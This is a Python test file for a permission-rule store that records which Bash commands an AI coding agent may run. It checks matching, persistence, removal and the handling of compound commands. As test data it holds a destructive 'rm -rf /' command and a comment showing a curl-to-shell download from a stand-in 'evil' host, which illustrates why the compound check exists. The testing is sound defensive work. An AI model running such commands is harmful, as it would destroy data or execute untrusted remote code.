"""Remembered rules: matching every key of a request, persistence.

(Which keys describe a request is the agent's business: tests/agents/test_claude_asks.py.)"""

from pathlib import Path

from sqlalchemy import Engine, insert

from switchboard.store.records import RuleKey
from switchboard.store.sqlite.rules import SqliteRuleStore
from switchboard.store.sqlite.schema import projects
from switchboard.store.sqlite.writer import Writer


def bash(*contents: str) -> list[RuleKey]:
    """The keys of a Bash request whose suggested rules have these contents."""
    return [("Bash", content, None) for content in contents]


async def test_rules_match_persist_and_go(engine: Engine, writer: Writer, tmp_path: Path) -> None:
    with engine.begin() as connection:
        connection.execute(insert(projects).values(id="p", path="/p", name="p", created_at=0.0))
    rules = SqliteRuleStore(engine, writer)
    await rules.load()
    [rule] = await rules.remember("p", bash("make test"))
    assert await rules.remember("p", bash("make test")) == []  # already there
    assert rules.match("p", bash("make test")) == rule
    assert rules.match("p", bash("rm -rf /")) is None
    assert rules.match("other", bash("make test")) is None
    reloaded = SqliteRuleStore(engine, writer)
    await reloaded.load()
    assert reloaded.of_project("p") == [rule]
    assert await reloaded.remove("other", rule.id) is None
    assert await reloaded.remove("p", rule.id) == rule
    assert reloaded.match("p", bash("make test")) is None


async def test_an_exact_input_is_a_rule_of_its_own(engine: Engine, writer: Writer) -> None:
    with engine.begin() as connection:
        connection.execute(insert(projects).values(id="p", path="/p", name="p", created_at=0.0))
    rules = SqliteRuleStore(engine, writer)
    exact: list[RuleKey] = [("Bash", None, '{"command":"ls -l"}')]
    [rule] = await rules.remember("p", exact)
    assert (rule.tool_name, rule.rule_content, rule.input) == exact[0]
    assert rules.match("p", exact) == rule
    assert rules.match("p", [("Bash", None, '{"command":"ls"}')]) is None
    assert rules.match("p", []) is None


async def test_a_rule_for_one_subcommand_does_not_allow_a_compound_command(
    engine: Engine, writer: Writer
) -> None:
    with engine.begin() as connection:
        connection.execute(insert(projects).values(id="p", path="/p", name="p", created_at=0.0))
    rules = SqliteRuleStore(engine, writer)
    await rules.remember("p", bash("npm test:*"))
    compound = bash("npm test:*", "curl:*")  # npm test && curl evil | sh
    assert rules.match("p", compound) is None
    await rules.remember("p", compound)
    assert rules.match("p", compound) is not None  # now every part is allowed
